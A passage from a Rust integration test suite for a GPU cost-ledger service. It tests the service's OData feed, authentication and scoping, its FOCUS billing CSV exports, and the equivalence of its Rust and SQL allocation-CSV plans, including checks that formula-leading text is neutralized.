        ids[1..4].iter().map(String::as_str).collect::<Vec<_>>()
    );
    let (five, pages) = all_pages(&env, "/odata/LedgerLines?$top=5", &small).await;
    assert_eq!((five.len(), pages), (5, 3));
    let a = send(&env, "GET", "/odata/LedgerLines/$count?$filter=Term%20eq%20'borrowed'", &h, None).await;
    let borrowed = db.iter().filter(|(i, _)| i.contains("/borrowed/")).count();
    assert_eq!(a.text(), borrowed.to_string());

    // -- Allocations: the incremental-refresh filter Power BI sends, numbers, strings, nulls, functions
    let (rows, _) = all_pages(
        &env,
        "/odata/Allocations?$filter=PeriodStart%20ge%202026-09-01T00:00:00Z%20and%20PeriodStart%20lt%202026-10-01T00:00:00Z",
        &small,
    )
    .await;
    assert_eq!(rows.len(), 4);
    assert_eq!(rows.iter().map(|r| micros(&r["GpuHours"].to_string())).sum::<i64>(), 53_000_000, "20 + 4 + 24 + 5");
    let count = |f: &'static str| {
        let env = &env;
        let h = h.clone();
        async move {
            let a = send(
                env,
                "GET",
                &format!("/odata/Allocations?$count=true&$top=0&$filter={}", f.replace(' ', "%20")),
                &h,
                None,
            )
            .await;
            assert_eq!(a.status, 200, "{f}: {}", a.text());
            a.json()["@odata.count"].as_i64().unwrap()
        }
    };
    assert_eq!(count("GpuHours gt 4 and GpuHours le 20").await, 2);
    assert_eq!(count("Tenant eq '@ops' or HolderName eq 'late'").await, 2);
    assert_eq!(count("contains(HolderName,'=1') and Period ne '2026-09'").await, 1);
    assert_eq!(count("EndedAt ne null and not (Units ge 2)").await, 4);
    assert_eq!(count("Period in ('2026-09', '2026-10') and year(Start) eq 2026").await, 5);
    assert_eq!(count("startswith(tolower(Department),'res') and EndEstimated eq false").await, 4);
    assert_eq!(count("Start lt 2026-09-15T00:00:00%2B02:00").await, 1);

    // -- the other sets
    let (tenants, _) = all_pages(&env, "/odata/Tenants?$orderby=Name", &h).await;
    assert_eq!(
        tenants.iter().map(|t| t["Name"].as_str().unwrap()).collect::<BTreeSet<_>>(),
        BTreeSet::from([EVIL_TENANT, OPS_TENANT, "alpha"])
    );
    let (departments, _) = all_pages(&env, "/odata/Departments", &h).await;
    assert_eq!(departments.len(), 2);
    let (periods, _) = all_pages(&env, "/odata/Periods", &h).await;
    let sept = periods.iter().find(|p| p["Period"] == "2026-09").expect("September");
    assert_eq!((sept["State"].as_str(), sept["LineCount"].as_i64()), (Some("closed"), Some(db.len() as i64)));
    assert!(sept["ContentHash"].is_string());
    assert!(periods.iter().any(|p| p["Period"] == "2026-10" && p["State"] == "open"));
    let (usage, _) = all_pages(&env, "/odata/Usage?$filter=InputTokens%20gt%20100", &h).await;
    assert_eq!(usage.len(), 1);
    assert_eq!(usage[0]["InputTokens"], 1000);
    let (disputes, _) = all_pages(&env, "/odata/Disputes", &h).await;
    assert_eq!(disputes[0]["Reason"], EVIL_REASON, "JSON needs no neutralizing");

    // -- a department-scoped token: its departments only, no organization-wide hashes
    let p = basic(&env.export_platform);
    let (lines, _) = all_pages(&env, "/odata/LedgerLines", &p).await;
    assert!(!lines.is_empty() && lines.iter().all(|l| l["Department"] == "Platform"));
    let (allocs, _) = all_pages(&env, "/odata/Allocations", &p).await;
    assert_eq!(allocs.len(), 1);
    let (periods, _) = all_pages(&env, "/odata/Periods?$filter=Period%20eq%20'2026-09'", &p).await;
    assert!(periods[0]["ContentHash"].is_null());
    assert_eq!(periods[0]["LineCount"].as_i64().unwrap() as usize, lines.len());
    let (tenants, _) = all_pages(&env, "/odata/Tenants", &p).await;
    assert_eq!(tenants.len(), 1);

    // -- errors are OData errors, and nothing unsupported is ignored
    for (uri, status, code) in [
        ("/odata/LedgerLines?$expand=Tenant", 501, "NotImplemented"),
        ("/odata/LedgerLines?$search=x", 501, "NotImplemented"),
        ("/odata/LedgerLines?$filter=Amount%20add%201%20gt%200", 501, "NotImplemented"),
        ("/odata/LedgerLines?$filter=substringof('a',Tenant)", 501, "NotImplemented"),
        ("/odata/LedgerLines?$filter=Nope%20eq%201", 400, "BadRequest"),
        ("/odata/LedgerLines?$filter=Amount%20eq%20'x'", 400, "BadRequest"),
        ("/odata/LedgerLines?$orderby=Nope", 400, "BadRequest"),
        ("/odata/LedgerLines?$select=Nope", 400, "BadRequest"),
        ("/odata/LedgerLines?$bogus=1", 400, "BadRequest"),
        ("/odata/LedgerLines?$skiptoken=zzz", 400, "BadRequest"),
        ("/odata/Nothing", 404, "NotFound"),
    ] {
        let a = send(&env, "GET", uri, &h, None).await;
        assert_eq!(a.status.as_u16(), status, "{uri}: {}", a.text());
        assert_eq!(a.json()["error"]["code"], code, "{uri}");
        assert_eq!(a.header("odata-version"), "4.0");
    }

    // -- credentials: Basic, Bearer, an API key (query or header); never the session cookie
    let key = format!("/odata/LedgerLines?$top=1&api_key={}", env.export);
    assert_eq!(send(&env, "GET", &key, &[], None).await.status, 200);
    assert_eq!(send(&env, "GET", &format!("/odata/$metadata?ApiKeyName={}", env.export), &[], None).await.status, 200);
    assert_eq!(
        send(&env, "GET", "/odata/LedgerLines?$top=1", &[("x-api-key", env.export.clone())], None).await.status,
        200
    );
    assert_eq!(send(&env, "GET", "/odata/LedgerLines?$top=1", &bearer(&env.export), None).await.status, 200);
    let a = send(&env, "GET", "/odata/LedgerLines?$top=1&api_key=glt_nope", &[], None).await;
    assert_eq!(a.status, 401);
    assert!(a.header("www-authenticate").starts_with("Basic"), "Power BI is offered Basic");
    let cookie = [("cookie", format!("gl_session={}", env.cookie))];
    assert_eq!(
        send(&env, "GET", "/api/v1/ledger?period=2026-09", &cookie, None).await.status,
        200,
        "the session is live"
    );
    for uri in ["/odata/", "/odata/$metadata", "/odata/LedgerLines", "/odata/Tenants/$count"] {
        let a = send(&env, "GET", uri, &cookie, None).await;
        assert_eq!(a.status, 401, "{uri} with the portal's cookie: {}", a.text());
    }
    assert_eq!(send(&env, "GET", "/odata/LedgerLines", &bearer(&env.agent), None).await.status, 403);

    // -- the first page of a read is audited, the continuations are not
    let n: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_log WHERE org_id = $1 AND action = 'export.odata'")
        .bind(env.org)
        .fetch_one(&env.su)
        .await
        .unwrap();
    assert!(n > 10, "{n}");
}

// ---------------------------------------------------------------- FOCUS

/// FOCUS 1.2's columns, from the specification (specification/columns at tag v1.2).
/// What FOCUS 1.3 adds to 1.2's columns.
const FOCUS_1_3_ADDED: [&str; 8] = [
    "AllocatedMethodDetails",
    "AllocatedMethodId",
    "AllocatedResourceId",
    "AllocatedResourceName",
    "AllocatedTags",
    "ContractApplied",
    "HostProviderName",
    "ServiceProviderName",
];

const FOCUS_1_2: [&str; 57] = [
    "AvailabilityZone",
    "BilledCost",
    "BillingAccountId",
    "BillingAccountName",
    "BillingAccountType",
    "BillingCurrency",
    "BillingPeriodEnd",
    "BillingPeriodStart",
    "CapacityReservationId",
    "CapacityReservationStatus",
    "ChargeCategory",
    "ChargeClass",
    "ChargeDescription",
    "ChargeFrequency",
    "ChargePeriodEnd",
    "ChargePeriodStart",
    "CommitmentDiscountCategory",
    "CommitmentDiscountId",
    "CommitmentDiscountName",
    "CommitmentDiscountQuantity",
    "CommitmentDiscountStatus",
    "CommitmentDiscountType",
    "CommitmentDiscountUnit",
    "ConsumedQuantity",
    "ConsumedUnit",
    "ContractedCost",
    "ContractedUnitPrice",
    "EffectiveCost",
    "InvoiceId",
    "InvoiceIssuerName",
    "ListCost",
    "ListUnitPrice",
    "PricingCategory",
    "PricingCurrency",
    "PricingCurrencyContractedUnitPrice",
    "PricingCurrencyEffectiveCost",
    "PricingCurrencyListUnitPrice",
    "PricingQuantity",
    "PricingUnit",
    "ProviderName",
    "PublisherName",
    "RegionId",
    "RegionName",
    "ResourceId",
    "ResourceName",
    "ResourceType",
    "ServiceCategory",
    "ServiceName",
    "ServiceSubcategory",
    "SkuId",
    "SkuMeter",
    "SkuPriceDetails",
    "SkuPriceId",
    "SubAccountId",
    "SubAccountName",
    "SubAccountType",
    "Tags",
];

#[tokio::test]
async fn focus_export_versions_categories_and_corrections() {
    let env = env().await;
    // -- 1.2 on request: exactly its columns, then x_ columns
    let (header, _) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-10&version=1.2", &env.export).await);
    let spec: Vec<&str> = header.iter().map(String::as_str).filter(|c| !c.starts_with("x_")).collect();
    assert_eq!(spec, FOCUS_1_2);
    // -- the default is 1.3: 1.2's columns and the eight 1.3 added, in the spec's (alphabetical) order
    let (header, rows) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-10", &env.export).await);
    let spec: Vec<&str> = header.iter().map(String::as_str).filter(|c| !c.starts_with("x_")).collect();
    let mut v13: Vec<&str> = FOCUS_1_2.iter().copied().chain(FOCUS_1_3_ADDED).collect();
    v13.sort_unstable();
    assert_eq!(spec, v13);
    for x in ["x_Confidence", "x_GpuClass", "x_Term", "x_Explanation"] {
        assert!(header.contains(&x.to_string()), "{x}");
    }
    let ledger = get(&env, "/api/v1/ledger?period=2026-10", &env.export).await.json();
    let lines = ledger["lines"].as_array().unwrap();
    assert_eq!(rows.len(), lines.len());
    let total: i64 = lines.iter().map(|l| cents(l["amount"].as_str().unwrap())).sum();
    for c in ["BilledCost", "EffectiveCost", "ListCost", "ContractedCost"] {
        assert_eq!(rows.iter().map(|r| cents(&r[c])).sum::<i64>(), total, "{c}");
    }
    let categories: BTreeSet<&str> = rows.iter().map(|r| r["ChargeCategory"].as_str()).collect();
    assert_eq!(categories, BTreeSet::from(["Adjustment", "Credit", "Usage"]));
    let correction = rows.iter().find(|r| r["ChargeCategory"] == "Adjustment").unwrap();
    assert_eq!(correction["ChargeClass"], "Correction");
    assert_eq!(
        (correction["ChargePeriodStart"].as_str(), correction["ChargePeriodEnd"].as_str()),
        ("2026-09-01T00:00:00Z", "2026-10-01T00:00:00Z"),
        "a correction is charged to the month it corrects"
    );
    assert_eq!(correction["BillingPeriodStart"], "2026-10-01T00:00:00Z");
    let credit = rows.iter().find(|r| r["ChargeCategory"] == "Credit").unwrap();
    assert_eq!((credit["BilledCost"].as_str(), credit["ChargeClass"].as_str()), ("-5.00", ""));
    assert!(rows.iter().filter(|r| r["ChargeCategory"] != "Adjustment").all(|r| r["ChargeClass"].is_empty()));
    let borrowed = rows.iter().find(|r| r["x_Term"] == "borrowed").unwrap();
    assert_eq!((borrowed["ConsumedUnit"].as_str(), borrowed["ConsumedQuantity"].as_str()), ("GPU-Hours", "4.000000"));
    assert_eq!((borrowed["x_GpuClass"].as_str(), borrowed["x_Confidence"].as_str()), ("H100-80GB", "exact"));
    assert!(rows.iter().all(|r| r["InvoiceId"].is_empty()), "an open month has no invoice");
    for r in &rows {
        let tags: Value = serde_json::from_str(&r["Tags"]).unwrap();
        assert!(tags.is_object());
        for (k, v) in r {
            let number = v.parse::<f64>().is_ok();
            assert!(number || !v.starts_with(FORMULA_START), "{k} = {v:?}");
        }
    }
    assert!(rows.iter().any(|r| r["SubAccountName"] == format!("'{EVIL_TENANT}")), "neutralized in FOCUS too");
    // ASCII descriptions; the explanation itself, with its ×, unchanged in x_Explanation
    let ledger_text: BTreeMap<&str, &str> =
        lines.iter().map(|l| (l["line_id"].as_str().unwrap(), l["explanation"].as_str().unwrap())).collect();
    for r in &rows {
        assert!(r["ChargeDescription"].is_ascii() && !r["ChargeDescription"].is_empty(), "{}", r["ChargeDescription"]);
        let explanation = ledger_text[r["x_LineId"].as_str()];
        let cell = r["x_Explanation"].as_str();
        // (a text starting like a formula gets its leading ', as everywhere)
        let cell = if explanation.starts_with(FORMULA_START) { cell.strip_prefix('\'').unwrap_or(cell) } else { cell };
        assert_eq!(explanation, cell, "x_Explanation is the ledger's explanation");
        assert_eq!((r["HostProviderName"].as_str(), r["ServiceProviderName"].as_str()), ("Acme", "Acme"));
        assert!(r["ContractApplied"].is_empty());
    }
    assert!(rows.iter().any(|r| r["x_Explanation"].contains('×') && r["ChargeDescription"].contains(" x ")));
    // -- split cost allocation: the overhead pool (100.00 by equal shares) is split among the three tenants
    let splits: Vec<&BTreeMap<String, String>> = rows.iter().filter(|r| !r["AllocatedMethodId"].is_empty()).collect();
    assert_eq!(splits.len(), 3, "one allocated charge per tenant");
    let mut ratio_micros = 0;
    for r in &splits {
        assert_eq!(r["x_Term"], "overhead");
        assert_eq!(r["AllocatedMethodId"], "gpuledger/overhead/equal");
        assert_eq!(r["ResourceId"], format!("{}/overhead/2026-10", env.org), "the origin is the month's pool");
        assert_eq!(r["AllocatedResourceId"], r["x_TenantId"], "allocated to the tenant");
        assert_eq!(r["AllocatedResourceName"], r["SubAccountName"]);
        let details: Value = serde_json::from_str(&r["AllocatedMethodDetails"]).unwrap();
        let elements = details["Elements"].as_array().unwrap();
        assert_eq!(elements.len(), 1);
        assert_eq!(elements[0]["UsageUnit"], "Tenant");
        let ratio = elements[0]["AllocatedRatio"].as_f64().expect("a JSON number");
        ratio_micros += micros(&format!("{ratio:.6}"));
        let tags: Value = serde_json::from_str(&r["AllocatedTags"]).unwrap();
        assert_eq!(
            tags["gpuledger/tenant"].as_str().map(|t| t.trim_start_matches('\'')),
            Some(r["x_Tenant"].trim_start_matches('\''))
        );
        let origin: Value = serde_json::from_str(&r["Tags"]).unwrap();
        assert_eq!(
            origin,
            json!({"gpuledger/pool": "overhead"}),
            "Tags are the origin's, not repeated in AllocatedTags"
        );
    }
    assert_eq!(ratio_micros, 1_000_000, "a whole pool's ratios add up to exactly 1");
    for r in rows.iter().filter(|r| r["AllocatedMethodId"].is_empty()) {
        for c in FOCUS_1_3_ADDED.iter().filter(|c| c.starts_with("Allocated")) {
            assert!(r[*c].is_empty(), "{c} on a line nobody split: {}", r["x_LineId"]);
        }
    }

    // -- 1.0 on request: its 43 columns (and the validator's five pre-1.0 spellings); closed months have invoices
    let (header, rows) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-09&version=1.0", &env.export).await);
    for c in [
        "InvoiceIssuerName",
        "ProviderName",
        "PublisherName",
        "ResourceId",
        "InvoiceIssuer",
        "Provider",
        "Publisher",
        "ResourceID",
        "Tags",
    ] {
        assert!(header.contains(&c.to_string()), "{c}");
    }
    for c in ["BillingAccountType", "InvoiceId", "ServiceSubcategory", "SkuMeter"] {
        assert!(!header.contains(&c.to_string()), "{c} is not in FOCUS 1.0");
    }
    assert_eq!(header.iter().filter(|c| !c.starts_with("x_")).count(), 43 + 5);
    assert!(rows.iter().all(|r| r["ChargeCategory"] == "Usage" && r["BillingPeriodEnd"] == "2026-10-01T00:00:00Z"));
    let (_, v12) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-09&version=1.2", &env.export).await);
    // Showback issues no invoice: FOCUS requires a null InvoiceId then, closed month or not.
    assert!(v12.iter().all(|r| r["InvoiceId"].is_empty()));
    assert!(v12.iter().all(|r| r["ChargeDescription"].is_ascii()), "FOCUS: ASCII only");
    assert!(v12.iter().any(|r| r["ChargeDescription"].contains(" x ")), "× spelled x");
    assert!(v12.iter().all(|r| !r.contains_key("AllocatedMethodId")), "1.2 has no split allocation columns");
    // department scope applies
    let (_, scoped) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-09", &env.export_platform).await);
    assert!(!scoped.is_empty() && scoped.iter().all(|r| r["x_Department"] == "Platform"));
    assert_eq!(get(&env, "/api/v1/exports/focus.csv?period=2026-09&version=0.5", &env.export).await.status, 422);
}

// ---------------------------------------------------------------- the allocations CSV: Rust plan = SQL plan

/// A deterministic pseudo-random number (splitmix64).
fn mix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// The data rows of a CSV file, sorted (the two plans write rows in their own read order).
fn sorted_rows(csv: &[u8]) -> (String, Vec<String>) {
    let text = String::from_utf8(csv.to_vec()).unwrap();
    let mut lines: Vec<String> = text.split("\r\n").map(str::to_string).collect();
    assert_eq!(lines.pop().as_deref(), Some(""), "the file ends with CRLF");
    let header = lines.remove(0);
    lines.sort();
    (header, lines)
}

/// The allocations CSV is joined and computed in Rust; the SQL plan it replaced is kept as the reference. On data
/// made to be awkward — owners changing in the middle of intervals, gaps between owners, namespaces without owner
/// or without UID, intervals across one or two month edges, open intervals, MIG and time-sliced fractions,
/// microsecond timestamps, text that needs quoting or neutralizing, NULL array elements, a tenant outside a
/// department-scoped caller's view, another organization's rows — both write the same rows, byte for byte, for
/// every month, filter and scope. And the decimals: GPU-hours and fractions equal PostgreSQL's `numeric` results
/// for thousands of random fractions and durations.
#[tokio::test]
async fn allocations_csv_rust_plan_writes_the_sql_plan_rows() {
    use gpuledger_core::Period;
    use gpuledger_server::exports::allocations_csv_bytes as allocations_csv;

    let (test_db, db) = common::migrated().await;
    let su = common::admin_pool(&test_db).await;
    let dir = db.cross_org_directory();
    let org = dir.create_org(OrgId::from_uuid(Uuid::new_v4()), "acme", "Acme").await.unwrap();
    let other = dir.create_org(OrgId::from_uuid(Uuid::new_v4()), "other", "Other").await.unwrap();
    let (o, o2) = (org.as_uuid(), other.as_uuid());
    let (research, platform) = (Uuid::new_v4(), Uuid::new_v4());
    let exec = |sql: &'static str| sqlx::query(sql);
    exec("INSERT INTO departments (org_id, department_id, name) VALUES ($1, $2, 'Research'), ($1, $3, '=Platform')")
        .bind(o)
        .bind(research)
        .bind(platform)
        .execute(&su)
        .await
        .unwrap();
    let tenants: Vec<(Uuid, Uuid, &str)> = vec![
        (Uuid::new_v4(), research, "alpha"),
        (Uuid::new_v4(), research, "beta, \"the second\""),
        (Uuid::new_v4(), platform, "@ops"),
    ];
    for (id, dept, name) in &tenants {
        exec("INSERT INTO tenants (org_id, tenant_id, department_id, name) VALUES ($1, $2, $3, $4)")
            .bind(o)
            .bind(id)
            .bind(dept)
            .bind(name)
            .execute(&su)
            .await
            .unwrap();
    }
    let (c1, c2) = (Uuid::new_v4(), Uuid::new_v4());
    exec("INSERT INTO clusters (org_id, cluster_id, name) VALUES ($1, $2, 'east'), ($1, $3, '-west')")
        .bind(o)
        .bind(c1)
        .bind(c2)
        .execute(&su)
        .await
        .unwrap();
    let nss: Vec<Uuid> = (0..5).map(|_| Uuid::new_v4()).collect();
    for (i, ns) in nss.iter().enumerate() {
        exec("INSERT INTO namespaces (org_id, namespace_uid, cluster_id, name, created_at) VALUES ($1, $2, $3, $4, '2026-01-01')")
            .bind(o)
            .bind(ns)
            .bind(if i % 2 == 0 { c1 } else { c2 })
            .bind(format!("ns-{i}"))
            .execute(&su)
            .await
            .unwrap();
    }
    // ns0: alpha → @ops (09-10 12:00:00.5) → beta (09-20) and open; ns1: beta until 09-15, a gap, alpha from
    // 09-25; ns2: @ops always; ns3: alpha from 10-15 only; ns4: no owner.
    let owners: [(usize, &str, Option<&str>, usize); 6] = [
        (0, "2026-01-01", Some("2026-09-10 12:00:00.5+00"), 0),
        (0, "2026-09-10 12:00:00.5+00", Some("2026-09-20 00:00+00"), 2),
        (0, "2026-09-20 00:00+00", None, 1),
        (1, "2026-01-01", Some("2026-09-15 00:00+00"), 1),
        (1, "2026-09-25 00:00+00", None, 0),
        (2, "2026-01-01", None, 2),
    ];
    for (ns, from, to, tenant) in owners.iter().chain([(3, "2026-10-15 00:00+00", None, 0)].iter()) {
        exec(
            "INSERT INTO namespace_ownership (org_id, namespace_uid, valid_from, valid_to, tenant_id)
              VALUES ($1, $2, $3::timestamptz, $4::timestamptz, $5)",
        )
        .bind(o)
        .bind(nss[*ns])
        .bind(*from)
        .bind(*to)
        .bind(tenants[*tenant].0)
        .execute(&su)
        .await
        .unwrap();
    }
    // Intervals: every namespace (and none) × starts and ends around the owner changes and month edges × open
    // or closed × fractions.
    let starts = [
        "2026-07-20 00:00+00",
        "2026-08-31 23:59:59.999999+00",
        "2026-09-01 00:00+00",
        "2026-09-10 11:00:00.123457+00",
        "2026-09-14 00:00+00",
        "2026-09-30 20:00+00",
        "2026-10-31 23:00+00",
        "2026-11-02 00:00+00",
    ];
    let ends = [
        None,
        Some("2026-09-01 00:00+00"),
        Some("2026-09-10 12:00:00.5+00"),
        Some("2026-09-16 03:17:00.000001+00"),
        Some("2026-10-01 04:00+00"),
        Some("2026-10-20 00:00+00"),
        Some("2026-11-01 00:00:00.000001+00"),
    ];
    // (sharing mode, units, fraction, profile, replicas)
    type Sharing = (&'static str, i32, Option<(i64, i64)>, Option<&'static str>, Option<i32>);
    let kinds: [Sharing; 5] = [
        ("exclusive", 2, Some((2, 1)), None, None),
        ("mig", 1, Some((1, 7)), Some("1g.10gb"), None),
        ("mig", 3, Some((9, 7)), Some("3g.40gb"), None),
        ("time_slice", 1, Some((1, 4)), None, Some(4)),
        ("mig", 1, None, Some("7g.80gb"), None),
    ];
    let mut n = 0usize;
    let mut insert = Vec::new();
    for (si, s) in starts.iter().enumerate() {
        for e in ends.iter() {
            for ns in 0..=nss.len() {
                n += 1;
                let r = mix(n as u64);
                let (mode, units, fraction, profile, replicas) = kinds[(r % 5) as usize];
                insert.push((n, si, *s, *e, ns, mode, units, fraction, profile, replicas, r));
            }
        }
    }
    for (n, _, s, e, ns, mode, units, fraction, profile, replicas, r) in &insert {
        let name = match r % 4 {
            0 => format!("=job-{n}"),
            1 => format!("job {n}, \"quoted\""),
            _ => format!("job-{n}"),
        };
        exec(
            "INSERT INTO allocation_intervals (org_id, cluster_id, allocation_id, holder_kind, holder_uid, holder_name,
                 namespace, namespace_uid, container, node, resource, units, device_ids, gpu_model, gpu_class,
                 sharing_mode, profile, replicas, fraction_num, fraction_den, started_at, ended_at, end_estimated,
                 confidence, inventory_gap, labels)
             SELECT $1, $2, $3, 'pod', $4, $5, $6, $7, $8, $9, 'nvidia.com/gpu', $10, $11, 'NVIDIA H100', 'H100', $12,
                    $13, $14, $15, $16, $17::timestamptz, $18::timestamptz, $19, 'exact', $20, $21
              WHERE $18::timestamptz IS NULL OR $18::timestamptz >= $17::timestamptz",
        )
        .bind(o)
        .bind(if r % 3 == 0 { c2 } else { c1 })
        .bind(format!("pod-{n}/main"))
        .bind(Uuid::from_u128(u128::from(*r)))
        .bind(name)
        .bind(format!("ns-{ns}"))
        .bind(nss.get(*ns).copied())
        .bind((r % 5 != 0).then_some("main"))
        .bind((r % 7 != 0).then(|| format!("node-{}", r % 3)))
        .bind(*units)
        .bind(match r % 4 {
            0 => vec![],
            1 => vec![Some("GPU-1".to_string()), None, Some("GPU-2".into())],
            2 => vec![Some("-GPU,3".to_string())],
            _ => vec![Some("GPU-4".to_string()), Some("MIG-4/1".into())],
        })
        .bind(*mode)
        .bind(*profile)
        .bind(*replicas)
        .bind(fraction.map(|f| f.0))
        .bind(fraction.map(|f| f.1))
        .bind(*s)
        .bind(*e)
        .bind(r % 6 == 0)
        .bind(fraction.is_none().then_some("no inventory entry for 7g.80gb"))
        .bind(if r % 2 == 0 { json!({"endpoint": "+llm"}) } else { json!({}) })
        .execute(&su)
        .await
        .unwrap();
    }
    // another organization's interval in the same months (never in Acme's files)
    exec("INSERT INTO clusters (org_id, cluster_id, name) VALUES ($1, $2, 'east')")
        .bind(o2)
        .bind(c1)
        .execute(&su)
        .await
        .unwrap();
    exec(
        "INSERT INTO allocation_intervals (org_id, cluster_id, allocation_id, holder_kind, holder_uid, holder_name,
             namespace, resource, units, sharing_mode, fraction_num, fraction_den, started_at, confidence)
         VALUES ($1, $2, 'leak', 'pod', $3, 'other-org', 'x', 'nvidia.com/gpu', 1, 'exclusive', 1, 1, '2026-08-01', 'exact')",
    )
    .bind(o2)
    .bind(c1)
    .bind(Uuid::new_v4())
    .execute(&su)
    .await
    .unwrap();

    let whole = auth::Principal::for_token(org, Uuid::new_v4(), Scope::export());
    let scoped = auth::Principal::for_token(
        org,
        Uuid::new_v4(),
        Scope::Export { departments: vec![DepartmentId::from_uuid(research)] },
    );
    let mut compared = 0;
    for month in ["2026-06", "2026-07", "2026-08", "2026-09", "2026-10", "2026-11", "2099-01"] {
        let period = Period::parse(month).unwrap();
        let cases: Vec<(&auth::Principal, Option<Uuid>, Option<Uuid>)> = vec![
            (&whole, None, None),
            (&whole, Some(platform), None),
            (&whole, None, Some(tenants[1].0)),
            (&scoped, None, None),
            (&scoped, Some(platform), None),
            (&scoped, None, Some(tenants[0].0)),
        ];
        for (p, dept, tenant) in cases {
            let rust = allocations_csv(&db, p, period, dept, tenant, false).await.unwrap();
            let sql = allocations_csv(&db, p, period, dept, tenant, true).await.unwrap();
            let (rh, mut rr) = sorted_rows(&rust);
            let (sh, mut sr) = sorted_rows(&sql);
            assert_eq!(rh, sh);
            assert!(!rr.iter().any(|r| r.contains("other-org")), "another organization's row");
            if month == "2026-11" {
                // open intervals end at each transaction's now(): compare all but `end` and `gpu_hours`
                let cut = |rows: &mut Vec<String>| {
                    for r in rows.iter_mut() {
                        let cells = parse_csv(&format!("{r}\r\n")).remove(0);
                        *r = cells
                            .iter()
                            .enumerate()
                            .filter(|(i, _)| *i != 5 && *i != 6)
                            .map(|(_, c)| c.as_str())
                            .collect::<Vec<_>>()
                            .join("|");
                    }
                    rows.sort();
                };
                cut(&mut rr);
                cut(&mut sr);
            }
            assert_eq!(rr, sr, "{month}, department {dept:?}, tenant {tenant:?}, scoped {:?}", p.departments);
            compared += rr.len();
        }
    }
    assert!(compared > 500, "compared {compared} rows");
    // The owner split really happened: ns0's interval 09-10 11:00:00.123457 – 09-16 03:17:00.000001, closed, in
    // September: alpha, @ops, and beta pieces.
    let sept = allocations_csv(&db, &whole, Period::parse("2026-09").unwrap(), None, None, false).await.unwrap();
    let (_, rows) = records(std::str::from_utf8(&sept).unwrap());
    let split: BTreeSet<(String, String, String)> = rows
        .iter()
        .filter(|r| r["namespace"] == "ns-0" && r["started_at"] == "2026-09-10T11:00:00.123457Z")
        .filter(|r| r["ended_at"] == "2026-10-01T04:00:00Z")
        .map(|r| (r["tenant"].clone(), r["start"].clone(), r["end"].clone()))
        .collect();
    let want: BTreeSet<(String, String, String)> = [
        ("alpha", "2026-09-10T11:00:00.123457Z", "2026-09-10T12:00:00.500000Z"),
        ("'@ops", "2026-09-10T12:00:00.500000Z", "2026-09-20T00:00:00Z"),
        ("beta, \"the second\"", "2026-09-20T00:00:00Z", "2026-10-01T00:00:00Z"),
    ]
    .into_iter()
    .map(|(t, s, e)| (t.to_string(), s.to_string(), e.to_string()))
    .collect();
    assert_eq!(split, want);

    // The OData feed: pages in key order with a month filter (or none) are computed the same way; a filter on
    // anything else goes through the SQL plan. Both give the same entities, page after page.
    let mut tx = db.begin_org(org).await.unwrap();
    let (_, token) = auth::create_token(&mut tx, &Scope::export(), "bi", "test", None).await.unwrap();
    let (_, research_token) = auth::create_token(
        &mut tx,
        &Scope::Export { departments: vec![DepartmentId::from_uuid(research)] },
        "bi-research",
        "test",
        None,
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let app = app::router(AppState::new(db.clone(), None), &HttpOptions::default());
    let feed = |token: String, query: String| {
        let app = app.clone();
        async move {
            let mut next = Some(format!("/odata/Allocations?{query}"));
            let (mut all, mut pages) = (Vec::new(), 0);
            while let Some(uri) = next.take() {
                let req = Request::builder()
                    .uri(&uri)
                    .header("authorization", format!("Bearer {token}"))
                    .header("prefer", "odata.maxpagesize=7")
                    .body(Body::empty())
                    .unwrap();
                let res = app.clone().oneshot(req).await.unwrap();
                assert_eq!(res.status(), 200, "{uri}");
                let v: Value = serde_json::from_slice(&to_bytes(res.into_body(), usize::MAX).await.unwrap()).unwrap();
                all.extend(v["value"].as_array().unwrap().iter().cloned());
                pages += 1;
                assert!(pages < 500);
                next = v["@odata.nextLink"].as_str().map(|l| format!("/odata/{}", l.split_once("/odata/").unwrap().1));
            }
            (all, pages)
        }
    };
    for (t, select) in [(&token, ""), (&research_token, ""), (&token, "&$select=Tenant,Start,GpuHours,Devices")] {
        for (months, other) in [
            ("$filter=Period%20eq%20'2026-09'", "$filter=Period%20eq%20'2026-09'%20and%20Units%20ge%200"),
            (
                "$filter=PeriodStart%20ge%202026-08-01T00:00:00Z%20and%20PeriodStart%20lt%202026-11-01T00:00:00Z",
                "$filter=PeriodStart%20ge%202026-08-01T00:00:00Z%20and%20PeriodStart%20lt%202026-11-01T00:00:00Z%20and%20Units%20ge%200",
            ),
            ("$filter=Period%20le%20'2026-10'", "$filter=Period%20le%20'2026-10'%20and%20Units%20ge%200"),
        ] {
            let (rust, pages) = feed(t.clone(), format!("{months}{select}")).await;
            let (sql, _) = feed(t.clone(), format!("{other}{select}")).await;
            assert!(pages > 3, "{months}: {pages} pages");
            assert_eq!(rust, sql, "{months}{select}");
            assert!(!rust.is_empty());
        }
    }

    // GPU-hours and fractions against PostgreSQL's numeric for random fractions and durations
    let base = datetime!(2026-09-01 00:00 UTC);
    let (mut nums, mut dens, mut ss, mut es) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for i in 0..4000u64 {
        let r = mix(1_000_000 + i);
        let num = 1 + (r % 64) as i64;
        let den = [1, 2, 3, 4, 7, 8, 14, 21, 49, 1024, 7168][(r >> 8) as usize % 11];
        let micros: i64 = match i % 4 {
            0 => (r >> 16) as i64 % 2_678_400_000_000,
            1 => (r >> 16) as i64 % 10_000_000,
            2 => 1800 * ((r >> 16) as i64 % 100_000),
            _ => 1 + (r >> 16) as i64 % 1000,
        } + 1;
        nums.push(num);
        dens.push(den);
        ss.push(base);
        es.push(base + time::Duration::microseconds(micros));
    }
    let pg: Vec<(String, String)> = sqlx::query_as(
        "SELECT round(n::numeric * extract(epoch FROM e - s) / (d * 3600), 6)::text, round(n::numeric / d, 6)::text
